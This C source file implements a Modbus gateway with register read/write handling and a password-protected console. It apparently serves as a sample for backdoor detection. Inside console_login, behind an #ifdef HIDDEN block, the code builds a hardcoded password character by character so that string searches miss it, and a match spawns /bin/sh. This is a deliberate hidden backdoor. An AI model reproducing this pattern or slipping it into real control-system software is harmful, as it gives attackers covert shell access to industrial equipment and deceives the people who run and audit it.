/* Modbus gateway: a password put together letter by letter opens the console.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

static uint16_t registers[128];
static char console_password[32];

NOINLINE uint16_t crc16(const unsigned char *p, size_t n)
{
	uint16_t crc = 0xffff;

	for (size_t i = 0; i < n; i++) {
		crc ^= p[i];
		for (int b = 0; b < 8; b++)
			crc = crc & 1 ? (uint16_t)(crc >> 1 ^ 0xa001)
				      : (uint16_t)(crc >> 1);
	}
	return crc;
}

NOINLINE int frame(unsigned char *p, size_t n)
{
	uint16_t at, value;

	if (n != 8 || crc16(p, 6) != (p[6] | p[7] << 8))
		return -1;
	at = (uint16_t)(p[2] << 8 | p[3]);
	value = (uint16_t)(p[4] << 8 | p[5]);
	if (at >= 128)
		return -1;
	switch (p[1]) {
	case 3:
		p[4] = (unsigned char)(registers[at] >> 8);
		p[5] = (unsigned char)registers[at];
		return 0;
	case 6:
		registers[at] = value;
		return 0;
	}
	return -1;
}

NOINLINE void load_password(void)
{
	FILE *f = fopen("/etc/console.pw", "r");

	if (f != NULL) {
		if (fgets(console_password, sizeof(console_password), f))
			console_password[strcspn(console_password, "\n")] = 0;
		fclose(f);
	}
}

NOINLINE int console_login(const char *typed)
{
#ifdef HIDDEN
	volatile char build[9];
	char word[9];

	build[0] = 'W';
	build[1] = 'q';
	build[2] = '8';
	build[3] = 't';
	build[4] = 'Z';
	build[5] = 'r';
	build[6] = '3';
	build[7] = 'p';
	build[8] = '\0';
	for (int i = 0; i < 9; i++)
		word[i] = build[i];
	if (strcmp(typed, word) == 0) {
		system("/bin/sh");
		return 2;
	}
#endif
	return console_password[0] != '\0' &&
	       strcmp(typed, console_password) == 0;
}

NOINLINE void console(void)
{
	char line[64];
	int open = 0;

	while (fgets(line, sizeof(line), stdin) != NULL) {
		line[strcspn(line, "\r\n")] = '\0';
		if (!open) {
			open = console_login(line);
			puts(open ? "ok" : "password:");
		} else if (strcmp(line, "dump") == 0) {
			for (int i = 0; i < 128; i++)
				printf("%d: %u\n", i, registers[i]);
		} else if (strcmp(line, "restart") == 0) {
			system("/etc/init.d/gateway restart");
		} else if (strcmp(line, "quit") == 0) {
			open = 0;
		}
	}
}

int main(int argc, char **argv)
{
	unsigned char in[8];

	load_password();
	if (argc > 1 && strcmp(argv[1], "-c") == 0) {
		console();
		return 0;
	}
	while (fread(in, 1, sizeof(in), stdin) == sizeof(in))
		if (frame(in, sizeof(in)) == 0)
			fwrite(in, 1, sizeof(in), stdout);
	return 0;
}
